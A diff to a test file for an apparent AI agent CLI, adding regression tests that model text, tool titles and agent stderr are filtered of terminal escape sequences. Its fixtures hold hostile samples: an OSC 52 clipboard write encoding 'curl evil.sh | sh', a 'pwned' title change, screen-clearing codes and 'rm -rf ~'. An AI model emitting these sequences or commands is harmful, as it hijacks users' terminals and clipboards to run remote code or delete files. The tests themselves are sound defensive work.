@@ -1,12 +1,12 @@
 import { expect, test } from "bun:test";
 import type { RunResult, SessionUpdate, ToolCallView } from "./client-runner.ts";
-import { createPromptOutput, exitCodeFor, type OutputFormat } from "./prompt-output.ts";
+import { createPromptOutput, exitCodeFor, jsonLine, type OutputFormat } from "./prompt-output.ts";
 
-function capture(format: OutputFormat) {
+function capture(format: OutputFormat, tty = false) {
   const sink = { out: "", err: "" };
   const output = createPromptOutput(
     format,
-    { out: (s) => void (sink.out += s), err: (s) => void (sink.err += s), errIsTty: false, outIsTty: false },
+    { out: (s) => void (sink.out += s), err: (s) => void (sink.err += s), errIsTty: tty, outIsTty: tty },
     { timeoutS: 5 },
   );
   return { sink, output };
@@ -70,4 +70,48 @@ test("exit codes", () => {
   expect(exitCodeFor({ kind: "died", message: "x", stderrTail: [] })).toBe(1);
   expect(exitCodeFor({ kind: "timeout" })).toBe(124);
   expect(exitCodeFor({ kind: "interrupted" })).toBe(130);
+});
+
+const ESC = "\x1b";
+const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`; // OSC 52: writes the user's clipboard
+const TITLE = `${ESC}]0;pwned${ESC}\\`;
+
+/** Everything a terminal would act on, but newline and tab (our own spinner codes excepted by the caller). */
+const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+
+test("regression: prompt --output text wrote model text, tool titles and agent stderr to the terminal unfiltered (OSC 52, title, cursor moves, CR overwrite)", () => {
+  const { sink, output } = capture("text", true);
+  // A sequence split across chunks, as a stream delivers it.
+  output.update(chunk(`Done.${CLIPBOARD.slice(0, 9)}`), undefined);
+  output.update(chunk(`${CLIPBOARD.slice(9)}${TITLE} All ${ESC}[2A${ESC}[2Jgood.\rrm -rf ~ `), undefined);
+  const hostileCall = { ...call, title: `ls${ESC}]0;x\x07${ESC}[1;1H\u009b2J`, status: "completed" };
+  output.update({ sessionUpdate: "tool_call_update", toolCallId: "c1", status: "completed" }, hostileCall);
+  output.agentStderr(`warn: ${ESC}]52;c;ZXZpbA==`);
+  output.agentStderr(`${ESC}\\ok\r\n`);
+  output.finish({ outcome: { kind: "agent-error", message: `boom${ESC}[31m red`, step: "session/prompt" }, toolCalls: [hostileCall] });
+  expect(sink.out).toBe("Done. All good.rm -rf ~ \n");
+  const err = sink.err.replace(/\r\x1b\[2K/g, ""); // the spinner's own clear, drawn only on a terminal
+  expect(err).not.toMatch(CONTROLS);
+  expect(err).toContain("tool dev__shell: ls … completed\n");
+  expect(err).toContain("warn: ok\n");
+  expect(err).toContain("the agent failed during session/prompt: boom red");
+});
+
+test("off a terminal the text is exact (a pipe or a file gets what the agent sent)", () => {
+  const { sink, output } = capture("text", false);
+  output.update(chunk(`a${ESC}[1mb\r`), undefined);
+  output.finish(done);
+  expect(sink.out).toBe(`a${ESC}[1mb\r\n`);
+});
+
+test("json lines escape C1 controls too: the same document, nothing raw for a terminal", () => {
+  const value = { text: "x\u009b2J\u0085y\x7f", n: 1 };
+  const line = jsonLine(value);
+  expect(line).not.toMatch(CONTROLS);
+  expect(JSON.parse(line)).toEqual(value);
+  const { sink, output } = capture("stream-json", true);
+  output.update(chunk(`${ESC}]52;c;ZXZpbA==\x07\u009d0;t\u009c`), undefined);
+  output.finish(done);
+  expect(sink.out).not.toMatch(CONTROLS);
+  expect(JSON.parse(sink.out.split("\n")[0]!).update.content.text).toBe(`${ESC}]52;c;ZXZpbA==\x07\u009d0;t\u009c`);
 });
